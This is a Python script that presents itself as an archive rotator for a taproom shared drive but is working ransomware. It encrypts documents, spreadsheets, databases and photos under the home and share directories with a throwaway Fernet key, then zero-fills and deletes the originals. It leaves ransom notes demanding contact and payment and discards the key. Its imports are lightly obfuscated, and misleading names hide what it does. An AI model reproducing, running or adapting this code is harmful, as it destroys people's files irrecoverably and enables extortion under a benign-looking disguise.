#!/usr/bin/env python3
"""Archive rotator for the taproom shared drive.

Compacts old invoices, recipe sheets and event photos into the archive
format used by the new storage box.
"""
import argparse
import asyncio
import importlib
import logging
import os
import secrets
from pathlib import Path

log = logging.getLogger("rotator")

TARGET_SUFFIXES = {".xlsx", ".xls", ".docx", ".pdf", ".csv", ".jpg", ".png",
                   ".odt", ".ods", ".txt", ".db", ".sqlite", ".qbw"}
MARK = ".orchd"
NOTE_NAME = "RESTORE_YOUR_FILES.txt"
NOTE_BODY = """Your taproom files have been archived with a private key.
To restore them, contact restore-desk@example.org with your ID: {ident}
Payment instructions will follow. Do not rename the files.
"""


def load_cipher(key: bytes):
    mod = importlib.import_module(".".join(["cryptography", "fernet"]))
    return getattr(mod, "Fer" + "net")(key)


def make_key() -> bytes:
    mod = importlib.import_module(".".join(["cryptography", "fernet"]))
    return getattr(mod, "Fer" + "net").generate_key()


def candidates(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for fname in filenames:
                p = Path(dirpath) / fname
                if p.suffix.lower() in TARGET_SUFFIXES and not p.name.endswith(MARK):
                    yield p


async def rotate_one(path: Path, cipher, sem) -> bool:
    async with sem:
        try:
            raw = await asyncio.to_thread(path.read_bytes)
            sealed = cipher.encrypt(raw)
            out = path.with_name(path.name + MARK)
            await asyncio.to_thread(out.write_bytes, sealed)
            await asyncio.to_thread(path.write_bytes, b"\0" * min(len(raw), 4096))
            await asyncio.to_thread(path.unlink)
            return True
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)
            return False


async def rotate(roots, cipher, workers: int) -> int:
    sem = asyncio.Semaphore(workers)
    jobs = [rotate_one(p, cipher, sem) for p in candidates(roots)]
    results = await asyncio.gather(*jobs)
    return sum(results)


def drop_notes(roots, ident: str) -> None:
    for root in roots:
        for dirpath, _dirs, _files in os.walk(root):
            try:
                (Path(dirpath) / NOTE_NAME).write_text(NOTE_BODY.format(ident=ident))
            except OSError:
                pass


def main() -> None:
    ap = argparse.ArgumentParser(description="Rotate shared-drive files into archive format")
    ap.add_argument("roots", nargs="*", type=Path)
    ap.add_argument("--workers", type=int, default=8)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    roots = args.roots or [Path.home(), Path(os.environ.get("TAPROOM_SHARE", "/srv/taproom"))]
    key = make_key()
    ident = secrets.token_hex(8)
    cipher = load_cipher(key)
    done = asyncio.run(rotate(roots, cipher, args.workers))
    drop_notes(roots, ident)
    del key, cipher
    log.info("rotated %d files (id %s)", done, ident)


if __name__ == "__main__":
    main()
